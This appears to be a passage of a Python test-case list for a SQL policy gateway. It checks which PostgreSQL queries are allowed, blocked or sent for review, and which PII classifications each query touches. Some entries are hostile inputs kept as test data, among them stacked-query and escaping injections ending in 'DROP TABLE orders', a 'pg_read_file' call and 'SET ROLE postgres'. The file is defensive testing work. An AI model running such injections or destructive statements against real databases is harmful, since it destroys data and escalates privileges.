    "WITH x AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM x",
]:
    CASES.append(C(sql, "block", identity="agent_smith", rules=("agents-read-only",)))
CASES.append(C("SELECT id, total FROM orders WHERE id = 1", "allow", identity="agent_smith"))
CASES.append(
    C("SELECT email FROM customers WHERE id = 1", "allow", identity="agent_smith", rewritten=True)
)
CASES.append(C("SELECT * FROM customers", "allow", identity="svc_app", rewritten=True))
CASES.append(C("UPDATE orders SET status = 'x' WHERE id = 1", "allow", identity="svc_app"))
CASES.append(C("VACUUM orders", "allow", identity="carol", rules=("dba-maintenance",)))
CASES.append(
    C("UPDATE audit_log SET message = 'x' WHERE id = 1", "block", rules=("audit-log-append-only",))
)
CASES.append(C("DELETE FROM audit_log WHERE id = 1", "block", rules=("audit-log-append-only",)))
CASES.append(C("INSERT INTO audit_log (id, message) VALUES (9, 'x')", "allow"))
CASES.append(C("SELECT card_number FROM payments", "review", rules=("unbounded-card-read",)))
CASES.append(C("SELECT card_number FROM payments LIMIT 5", "allow"))
CASES.append(C("SELECT pg_sleep(1)", "review", rules=("sleep-needs-review",)))
# The exempt DBA team is not exempt from masking: its DDL on classified tables is refused.
CASES.append(
    C(
        "ALTER TABLE customers ADD COLUMN x int",
        "block",
        identity="carol",
        rules=("mask.ddl_on_classified",),
    )
)
CASES.append(C("DROP TABLE customers", "block", identity="carol", rules=("no-drop-in-prod",)))

# -- extended protocol and standard_conforming_strings --
for sql, action in [
    ("SELECT id FROM orders WHERE id = $1", "allow"),
    ("UPDATE orders SET status = $1 WHERE id = $2", "allow"),
    ("DELETE FROM orders WHERE id = $1", "allow"),
    ("SELECT email FROM customers WHERE id = $1", "allow"),
    ("SELECT 1; SELECT 2", "block"),
    ("SELECT $1; DROP TABLE orders", "block"),
    ("", "allow"),
]:
    CASES.append(C(sql, action, protocol="extended"))
for sql, action in [
    ("SELECT 'a\\'; DROP TABLE orders; --'", "block"),
    ("SELECT 'plain'", "allow"),
    ("SELECT id FROM orders WHERE note = 'x'", "allow"),
    ("SELECT E'\\n'", "block"),
]:
    CASES.append(C(sql, action, scs=False))

# -- staging: roles are held, syntax errors refused, DDL and unfiltered writes pass --
for sql, action in [
    ("DELETE FROM orders", "allow"),
    ("UPDATE orders SET total = 0", "allow"),
    ("CREATE TABLE t (id int)", "allow"),
    ("TRUNCATE orders", "allow"),
    ("DROP TABLE orders", "allow"),
    ("LISTEN x", "allow"),
    ("CREATE ROLE r", "review"),
    ("DO $$ BEGIN END $$", "block"),
    ("SELEC 1", "block"),
    ("SELECT pg_read_file('x')", "block"),
    ("SELECT email FROM customers WHERE id = 1", "allow"),
    ("SET ROLE postgres", "block"),
    ("UPDATE customers SET name = email WHERE id = 1", "block"),
]:
    CASES.append(C(sql, action, env="staging"))

# -- analysis: kinds, tables and classifications found ------------------------------------
R, W = "public.customers", "public.orders"
for sql, action, kinds, read, written, classes in [
    (
        "SELECT c.email FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.id = 1",
        "allow",
        ("select",),
        (R, W),
        (),
        ("pii.email",),
    ),
    (
        "SELECT c FROM customers c WHERE c.id = 1",
        "allow",
        ("select",),
        (R,),
        (),
        ("internal.segment", "pii.birth_date", "pii.email", "pii.phone", "pii.profile", "pii.ssn"),
    ),
    ("SELECT id FROM customers WHERE ssn = $1", "allow", ("select",), (R,), (), ("pii.ssn",)),
    ("SELECT name FROM customers WHERE id = 1", "allow", ("select",), (R,), (), ()),
    (
        "SELECT x.e FROM (SELECT email AS e FROM customers) x WHERE x.e IS NOT NULL",
        "allow",
        ("select",),
        (R,),
        (),
        ("pii.email",),
    ),
    ("SELECT a.id FROM orders a JOIN customers b USING (id)", "allow", ("select",), (R, W), (), ()),
    (
        "WITH w AS (SELECT ssn FROM customers) SELECT * FROM w LIMIT 1",
        "allow",
        ("select",),
        (R,),
        (),
        ("pii.ssn",),
    ),
    (
        "SELECT card_number FROM payments LIMIT 1",
        "allow",
        ("select",),
        ("public.payments",),
        (),
        ("financial.card",),
    ),
    (
        "SELECT salary FROM hr.employees WHERE id = 1",
        "allow",
        ("select",),
        ("hr.employees",),
        (),
        ("financial.salary",),
    ),
    (
        "INSERT INTO orders (id, note) SELECT id, email FROM customers WHERE id = 1",
        "allow",
        ("insert",),
        (R,),
        (W,),
        ("pii.email",),
    ),
    ("UPDATE orders SET note = 'x' WHERE id = 1", "allow", ("update",), (), (W,), ()),
    (
        "DELETE FROM orders o USING payments p WHERE p.order_id = o.id AND p.id = 1",
        "allow",
        ("delete",),
        ("public.payments",),
        (W,),
        (),
    ),
    (
        "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM d",
        "allow",
        ("select",),
        (),
        (W,),
        (),
    ),
    ("COPY customers (id, ssn) TO STDOUT", "allow", ("copy_to",), (R,), (), ("pii.ssn",)),
    ("COPY orders FROM STDIN", "allow", ("copy_from",), (), (W,), ()),
    (
        "EXPLAIN ANALYZE UPDATE orders SET note = 'x' WHERE id = 2",
        "allow",
        ("explain_analyze",),
        (),
        (W,),
        (),
    ),
    (
        "PREPARE p1 AS SELECT ssn FROM customers WHERE id = $1",
        "allow",
        ("prepare",),
        (R,),
        (),
        ("pii.ssn",),
    ),
    (
        "DECLARE k CURSOR FOR SELECT email FROM customers WHERE id = 1",
        "allow",
        ("declare_cursor",),
        (R,),
        (),
        ("pii.email",),
    ),
    ("BEGIN; SELECT 1; COMMIT", "allow", ("transaction", "select", "transaction"), (), (), ()),
    (
        "CREATE TABLE c2 AS SELECT id, email FROM customers",
        "review",
        ("create_table_as",),
        (R,),
        ("public.c2",),
        ("pii.email",),
    ),
    ("TRUNCATE orders", "review", ("truncate",), (), (W,), ()),
    (
        "SELECT 1; SELECT email FROM customers WHERE id = 1",
        "allow",
        ("select", "select"),
        (R,),
        (),
        ("pii.email",),
    ),
]:
    CASES.append(
        C(
            sql,
            action,
            identity="svc_app",
            kinds=kinds,
            tables_read=tuple(sorted(read)),
            tables_written=written,
            classifications=classes,
        )
    )

# -- what drivers, ORMs and psql send on their own: must pass ------------------------------
for sql in [
    "SELECT set_config('TimeZone', $1, false)",  # Django (psycopg 3)
    "SELECT set_config('TimeZone', 'UTC', false)",
    "select pg_catalog.version()",  # SQLAlchemy dialect initialisation
    "select current_schema()",
    "show standard_conforming_strings",
    "show transaction isolation level",
    "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid "
    "WHERE typname = 'hstore'",
    "SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN "
    "pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) "
    "'^(customers)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) "
    "ORDER BY 2, 3",  # psql \d customers
    "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), a.attnotnull FROM "
    "pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT "
    "a.attisdropped ORDER BY a.attnum",
    "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE "
    "table_schema = 'public'",
    "SELECT 1 AS ping",
]:
    CASES.append(C(sql, "allow", identity="svc_app", rewritten=False))
